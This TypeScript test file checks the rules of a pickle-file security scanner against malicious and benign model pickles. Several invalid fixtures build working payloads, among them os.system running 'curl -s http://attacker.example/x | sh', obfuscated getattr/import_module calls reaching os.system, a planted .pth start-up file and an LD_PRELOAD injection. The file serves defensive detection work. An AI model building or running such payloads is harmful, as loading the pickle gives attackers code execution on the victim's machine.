/**
 * Rule cases of the pickle analyser: every rule fires on its `invalid` trees and stays silent on its
 * `valid` ones when `bulwark scan` runs on them (files are detected by content: a PROTO opcode).
 */
import { joblibArrayPickle, joblibWrapper, pickle, torchStateDict, tuple } from '../../../test-fixtures/pickle-builder.js';
import type { RuleCases } from '../../rules/index.js';
import { ruleCases } from '../../rules/index.js';

const cat = (...parts: Uint8Array[]): Uint8Array => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let o = 0;
  for (const p of parts) {
    out.set(p, o);
    o += p.length;
  }
  return out;
};

const stateDict = (): Uint8Array => torchStateDict(4);
const osSystem = (): Uint8Array => pickle((b) => b.proto(2).call('os', 'system', 'curl -s http://attacker.example/x | sh').stop());
const benignNested = (): Uint8Array => pickle((b) => b.proto(3).global('torch.storage', '_load_from_bytes').binBytes(pickle((x) => x.proto(2).none().stop())).tuple1().reduce().stop());

export const PICKLE_RULE_CASES: readonly RuleCases[] = [
  ruleCases('pickle/dangerous-call', {
    valid: [
      { name: 'PyTorch state dict', files: { 'model.pkl': stateDict } },
      { name: 'dangerous global only referenced', files: { 'model.pkl': () => pickle((b) => b.proto(2).global('os', 'system').stop()) } },
    ],
    invalid: [
      { name: 'os.system via GLOBAL + REDUCE', files: { 'model.pkl': osSystem }, expect: { severity: 'critical', evidenceIncludes: 'os.system("curl' } },
      {
        name: 'dotted STACK_GLOBAL posixpath.os.system',
        files: { 'model.pkl': () => pickle((b) => b.proto(4).stackGlobal('posixpath', 'os.system').value(tuple('id')).reduce().stop()) },
        expect: { severity: 'critical', messageIncludes: 'os.system' },
      },
      {
        name: 'getattr(importlib.import_module("os"), "system")("id")',
        files: {
          'model.pkl': () =>
            pickle((b) =>
              b.proto(4).stackGlobal('builtins', 'getattr').stackGlobal('importlib', 'import_module').value(tuple('os')).reduce().str('system').tuple2().reduce().value(tuple('id')).reduce().stop(),
            ),
        },
        expect: { severity: 'critical', evidenceIncludes: '\u21d2 os.system("id")' },
      },
      {
        name: 'Python 2 __builtin__.eval',
        files: { 'model.pkl': () => pickle((b) => b.proto(2).global('__builtin__', 'eval').value(tuple('1'), 2).reduce().stop()) },
        expect: { messageIncludes: 'builtins.eval' },
      },
    ],
  }),
  ruleCases('pickle/suspicious-call', {
    valid: [
      { name: 'PyTorch state dict', files: { 'model.pkl': stateDict } },
      { name: 'an unknown class constructed with a path (a configuration object)', files: { 'model.pkl': () => pickle((b) => b.proto(2).global('mypackage.config', 'DataConfig').value(tuple('/data/train.csv')).reduce().stop()) } },
      { name: 'an unknown function called with plain words', files: { 'model.pkl': () => pickle((b) => b.proto(2).global('mypackage.activations', 'get_activation').value(tuple('relu')).reduce().stop()) } },
    ],
    invalid: [
      {
        name: 'a diagnostics helper called with a shell command',
        files: { 'model.pkl': () => pickle((b) => b.proto(4).stackGlobal('mylib.diagnostics', 'run_command').value(tuple('curl -s http://attacker.example/x | sh')).reduce().stop()) },
        expect: { severity: 'high', messageIncludes: 'shell command' },
      },
      {
        name: 'a test utility called with Python source',
        files: { 'model.pkl': () => pickle((b) => b.proto(2).global('somelib.testing.utils', 'run_source').value(tuple('import os; os.system("id")')).reduce().stop()) },
        expect: { severity: 'high', messageIncludes: 'Python code' },
      },
      {
        name: 'a writer pointed at a .pth start-up file',
        files: { 'model.pkl': () => pickle((b) => b.proto(2).global('mlframework.io', 'write_text_file').value(tuple('/usr/lib/python3/dist-packages/evil.pth', 'import os')).reduce().stop()) },
        expect: { severity: 'high' },
      },
    ],
  }),
  ruleCases('pickle/unresolved-call', {
    valid: [{ name: 'PyTorch state dict', files: { 'model.pkl': stateDict } }],
    invalid: [
      {
        name: 'calling the object persistent_load returns',
        files: { 'model.pkl': () => pickle((b) => b.proto(2).str('x', 2).binPersId().emptyTuple().reduce().stop()) },
        expect: { severity: 'high' },
      },
      {
        name: 'STACK_GLOBAL of an out-of-band buffer',
        files: { 'model.pkl': () => pickle((b) => b.proto(5).str('os').nextBuffer().stackGlobal().value(tuple('id')).reduce().stop()) },
        expect: { severity: 'critical' },
      },
    ],
  }),
  ruleCases('pickle/dangerous-global', {
    valid: [
      { name: 'PyTorch state dict', files: { 'model.pkl': stateDict } },
      { name: 'dangerous global that is called (reported as a call)', files: { 'model.pkl': osSystem } },
    ],
    invalid: [
      {
        name: 'os.system stored in a partial (a hook)',
        files: {
          'model.pkl': () => pickle((b) => b.proto(4).emptyDict().str('hook').stackGlobal('functools', 'partial').stackGlobal('os', 'system').str('id').tuple2().reduce().setItem().stop()),
        },
        expect: { severity: 'high', evidenceIncludes: 'os.system' },
      },
      {
        name: 'dunder traversal __globals__',
        files: { 'model.pkl': () => pickle((b) => b.proto(4).stackGlobal('torch.nn', 'Module.__init__.__globals__').stop()) },
        expect: { messageIncludes: '__globals__' },
      },
    ],
  }),
  ruleCases('pickle/unknown-global', {
    valid: [
      { name: 'PyTorch state dict', files: { 'model.pkl': stateDict } },
      { name: 'numpy-style reconstruction', files: { 'model.pkl': () => pickle((b) => b.proto(2).global('numpy', 'dtype').value(tuple('f8', false, true), 2).reduce().stop()) } },
    ],
    invalid: [
      {
        name: 'custom class',
        files: { 'model.pkl': () => pickle((b) => b.proto(2).global('mypackage.models', 'MyNet').emptyTuple().newObj().emptyDict().buildOp().stop()) },
        expect: { severity: 'medium', messageIncludes: 'mypackage.models.MyNet' },
      },
      {
        name: 'custom class with --strict',
        files: { 'model.pkl': () => pickle((b) => b.proto(2).global('mypackage.models', 'MyNet').emptyTuple().newObj().stop()) },
        options: { strict: true },
        expect: { severity: 'high' },
      },
    ],
  }),
  ruleCases('pickle/state-poisoning', {
    valid: [{ name: 'BUILD on an object the pickle built', files: { 'model.pkl': () => pickle((b) => b.proto(2).global('collections', 'OrderedDict').emptyTuple().reduce().emptyDict().buildOp().stop()) } }],
    invalid: [
      {
        name: 'SETITEM on os.environ',
        files: { 'model.pkl': () => pickle((b) => b.proto(2).global('os', 'environ').str('LD_PRELOAD', 2).str('/tmp/x.so', 2).setItem().stop()) },
        expect: { severity: 'critical', evidenceIncludes: 'os.environ["LD_PRELOAD"]' },
      },
      {
        name: 'BUILD on a function (slot state)',
        files: { 'model.pkl': () => pickle((b) => b.proto(2).global('torch._utils', '_rebuild_tensor_v2').none().emptyDict().tuple2().buildOp().stop()) },
        expect: { evidenceIncludes: 'torch._utils._rebuild_tensor_v2' },
      },
    ],
  }),
  ruleCases('pickle/unresolved-extension', {
    valid: [
      {
        name: 'extension registered in the stream',
        files: { 'model.pkl': () => pickle((b) => b.proto(2).call('copyreg', 'add_extension', 'collections', 'OrderedDict', 7).pop().ext1(7).stop()) },
      },
    ],
    invalid: [{ name: 'unregistered EXT2 code', files: { 'model.pkl': () => pickle((b) => b.proto(2).ext2(999).stop()) }, expect: { severity: 'medium', evidenceIncludes: 'EXT(999)' } }],
  }),
  ruleCases('pickle/nested-pickle', {
    valid: [{ name: 'PyTorch state dict', files: { 'model.pkl': stateDict } }],
    invalid: [
      {
        name: 'pickle.loads of embedded bytes',
        files: { 'model.pkl': () => pickle((b) => b.proto(3).global('pickle', 'loads').binBytes(osSystem()).tuple1().reduce().stop()) },
        expect: { severity: 'medium', messageIncludes: 'pickle.loads' },
      },
      { name: 'plainly pickled torch storage (informational)', files: { 'model.pkl': benignNested }, expect: { severity: 'info' } },
    ],
  }),
  ruleCases('pickle/frame-mismatch', {
    valid: [
      { name: 'well-formed protocol 4 frames', files: { 'model.pkl': () => pickle((b) => b.proto(4).framed((f) => f.stackGlobal('collections', 'OrderedDict').emptyTuple().reduce().stop())) } },
      { name: 'joblib array after a committed frame', files: { 'model.pkl': () => pickle((b) => b.proto(4).framed((f) => joblibWrapper(f, { shape: [2], aligned: false })).raw(new Uint8Array(16)).stop()) } },
    ],
    invalid: [
      {
        name: 'opcode crossing the frame end',
        files: { 'model.pkl': () => pickle((b) => b.proto(4).frame(3).str('os').str('system').stackGlobal().value(tuple('id')).reduce().stop()) },
        expect: { severity: 'high', messageIncludes: 'crosses the end of its FRAME' },
      },
      {
        name: 'frame longer than the data',
        files: { 'model.pkl': () => pickle((b) => b.proto(4).frame(1000).none().stop()) },
        expect: { messageIncludes: 'only 2 follow' },
      },
    ],
  }),
  ruleCases('pickle/malformed-after-payload', {
    valid: [{ name: 'truncated benign stream', files: { 'model.pkl': () => stateDict().subarray(0, 40) } }],
    invalid: [{ name: 'os.system then garbage', files: { 'model.pkl': () => cat(osSystem().subarray(0, osSystem().length - 1), Uint8Array.of(0xff)) }, expect: { severity: 'high', evidenceIncludes: 'os.system' } }],
  }),
  ruleCases('pickle/trailing-data', {
    valid: [
      { name: 'two pickles back to back', files: { 'model.pkl': () => cat(stateDict(), stateDict()) } },
      { name: 'joblib array bytes', files: { 'model.pkl': () => joblibArrayPickle({ shape: [4, 4] }) } },
    ],
    invalid: [{ name: 'shell script after STOP', files: { 'model.pkl': () => cat(stateDict(), new TextEncoder().encode('#!/bin/sh\nid\n')) }, expect: { severity: 'medium' } }],
  }),
];
